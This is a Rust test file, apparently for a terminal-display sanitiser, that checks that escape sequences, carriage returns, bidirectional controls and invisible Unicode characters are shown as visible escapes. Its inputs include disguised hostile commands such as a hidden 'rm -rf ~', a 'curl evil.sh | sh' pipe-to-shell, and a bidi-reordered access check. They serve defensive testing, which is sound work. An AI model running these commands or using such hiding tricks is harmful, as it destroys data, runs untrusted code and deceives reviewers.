//! What a person sees of hostile text, and properties that hold for any text.

use insta::assert_snapshot;
use proptest::prelude::*;

use super::*;

#[test]
fn plain_text_is_borrowed_unchanged() {
    let command = r"grep -n 'a\|b' *.rs && printf '\e[8m' | ünïcødé 😀 …";
    assert!(matches!(visible(command), Cow::Borrowed(text) if text == command));
}

#[test]
fn hidden_text_and_a_window_title_show_as_escapes() {
    assert_snapshot!(visible("echo safe \x1b[8mrm -rf ~\x1b[0m"), @r"echo safe \e[8mrm -rf ~\e[0m");
    assert_snapshot!(visible("ls\x1b]0;pwned\x07"), @r"ls\e]0;pwned\u{7}");
}

#[test]
fn a_carriage_return_cannot_overwrite_the_start_of_the_line() {
    assert_snapshot!(visible("curl evil.sh | sh\rls -la           "), @r"curl evil.sh | sh\rls -la           ");
    assert_snapshot!(visible("a\r\nb\tc\u{0}d\u{7f}e\u{9b}f"), @r"a\r\nb\tc\u{0}d\u{7f}e\u{9b}f");
}

#[test]
fn bidirectional_and_zero_width_characters_show_as_escapes() {
    assert_snapshot!(visible("access = \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\""), @r#"access = "user\u{202e} \u{2066}// admin\u{2069} \u{2066}""#);
    assert_snapshot!(visible("r\u{200b}m -r\u{200d}f\u{feff} \u{2060}/\u{e0041}"), @r"r\u{200b}m -r\u{200d}f\u{feff} \u{2060}/\u{e0041}");
}

#[test]
fn truncate_cuts_with_an_ellipsis_and_never_halves_an_escape() {
    assert_eq!(truncate("short", 5), "short");
    assert_eq!(truncate("longer", 5), "long…");
    assert_eq!(
        truncate("ab\u{202e}cd", 5),
        "ab…",
        "the 8-character escape does not fit, so it goes whole"
    );
    assert_eq!(truncate("ab\x1b", 4), "ab\\e");
    assert_eq!(truncate("ab\x1bc", 4), "ab…");
    assert_eq!(truncate("anything", 1), "…");
    assert_eq!(truncate("anything", 0), "");
    assert_eq!(truncate("", 0), "");
}

#[test]
fn one_line_collapses_spaces_but_shows_line_breaks_and_tabs() {
    assert_snapshot!(one_line("  cargo   build \n\t&& make\r\n  ", 80), @r"cargo build \n\t&& make\r\n");
    assert_snapshot!(one_line("echo    \x1b[8m   hidden", 80), @r"echo \e[8m hidden");
    assert_eq!(one_line("a  b  c  d", 5), "a b …");
    assert_eq!(one_line("     ", 5), "");
}

#[test]
fn visible_lines_split_at_line_feeds_and_keep_carriage_returns_visible() {
    let lines: Vec<_> = visible_lines("first\r\nsecond\x1b[8m\n").collect();
    assert_eq!(lines, ["first\\r", "second\\e[8m"]);
    assert_eq!(visible_lines("").count(), 0);
    assert_eq!(visible_lines("\n\n").collect::<Vec<_>>(), ["", ""]);
}

/// Any character, with the interesting ones made frequent.
fn hostile_char() -> impl Strategy<Value = char> {
    prop_oneof![
        any::<char>(),
        prop::sample::select(vec![
            '\x1b',
            '\x07',
            '\r',
            '\n',
            '\t',
            ' ',
            '\u{0}',
            '\u{7f}',
            '\u{85}',
            '\u{9b}',
            '\u{ad}',
            '\u{200b}',
            '\u{200d}',
            '\u{2028}',
            '\u{202e}',
            '\u{2066}',
            '\u{2069}',
            '\u{2060}',
            '\u{feff}',
            '\u{e0041}',
            '\u{3164}',
            '\u{fe0f}',
            '\u{34f}',
            '\\',
            'u',
            '{',
            '}',
            'e',
            'a',
            '…',
        ]),
    ]
}

fn hostile_text() -> impl Strategy<Value = String> {
    prop::collection::vec(hostile_char(), 0..80).prop_map(|chars| chars.into_iter().collect())
}

fn is_shown_as_itself(text: &str) -> bool {
    !text
        .chars()
        .any(|character| character.is_control() || is_hidden_or_reordering(character))
}

proptest! {
    #[test]
    fn visible_never_leaves_a_control_hidden_or_reordering_character(text in hostile_text()) {
        let shown = visible(&text);
        prop_assert!(is_shown_as_itself(&shown), "{shown:?}");
        prop_assert_eq!(visible(&shown), shown.clone(), "escaping twice changes nothing");
        prop_assert_eq!(matches!(shown, Cow::Borrowed(_)), !text.chars().any(needs_escape));
    }

    #[test]
    fn truncate_is_a_prefix_of_the_visible_text_within_the_limit(text in hostile_text(), max_chars in 0usize..40) {
        let shown = visible(&text);
        let cut = truncate(&text, max_chars);
        prop_assert!(is_shown_as_itself(&cut), "{cut:?}");
        prop_assert!(cut.chars().count() <= max_chars, "{cut:?} is longer than {max_chars}");
        if shown.chars().count() <= max_chars {
            prop_assert_eq!(cut, shown.into_owned());
        } else if max_chars > 0 {
            let kept = cut.strip_suffix(ELLIPSIS).expect("a cut text ends with the ellipsis");
            prop_assert!(shown.starts_with(kept), "{kept:?} is not the start of {shown:?}");
        }
    }

    #[test]
    fn one_line_is_visible_short_and_has_no_runs_of_spaces(text in hostile_text(), max_chars in 0usize..40) {
        let line = one_line(&text, max_chars);
        prop_assert!(is_shown_as_itself(&line), "{line:?}");
        prop_assert!(line.chars().count() <= max_chars, "{line:?} is longer than {max_chars}");
        prop_assert!(!line.contains("  ") && !line.starts_with(' '), "{line:?}");
        let words: Vec<String> = text.split(' ').filter(|word| !word.is_empty()).map(|word| visible(word).into_owned()).collect();
        let whole = words.join(" ");
        if whole.chars().count() <= max_chars {
            prop_assert_eq!(line, whole, "nothing but spaces is lost when it fits");
        }
    }
}

#[test]
fn characters_that_show_as_blank_space_or_change_their_neighbour_are_escaped() {
    assert_snapshot!(visible("rm\u{3164}-rf\u{115f}\u{ffa0} x\u{fe0f}\u{34f}"), @r"rm\u{3164}-rf\u{115f}\u{ffa0} x\u{fe0f}\u{34f}");
}

/// Unicode's Default_Ignorable_Code_Point property (DerivedCoreProperties.txt, Unicode 16),
/// which renderers draw as nothing: every one of them is escaped.
const DEFAULT_IGNORABLE: &[(u32, u32)] = &[
    (0x00ad, 0x00ad),
    (0x034f, 0x034f),
    (0x061c, 0x061c),
    (0x115f, 0x1160),
    (0x17b4, 0x17b5),
    (0x180b, 0x180f),
    (0x200b, 0x200f),
    (0x202a, 0x202e),
    (0x2060, 0x206f),
    (0x3164, 0x3164),
    (0xfe00, 0xfe0f),
    (0xfeff, 0xfeff),
    (0xffa0, 0xffa0),
    (0xfff0, 0xfff8),
    (0x1bca0, 0x1bca3),
    (0x1d173, 0x1d17a),
    (0xe0000, 0xe0fff),
];

#[test]
fn every_default_ignorable_code_point_is_escaped() {
    for &(first, last) in DEFAULT_IGNORABLE {
        for code in first..=last {
            let Some(character) = char::from_u32(code) else {
                continue;
            };
            let text = format!("a{character}b");
            let shown = visible(&text);
            assert!(
                !shown.contains(character),
                "U+{code:04X} reaches the terminal as itself: {shown:?}"
            );
        }
    }
    assert_eq!(
        visible("\u{2800}"),
        "\\u{2800}",
        "the Braille blank looks like a space"
    );
}
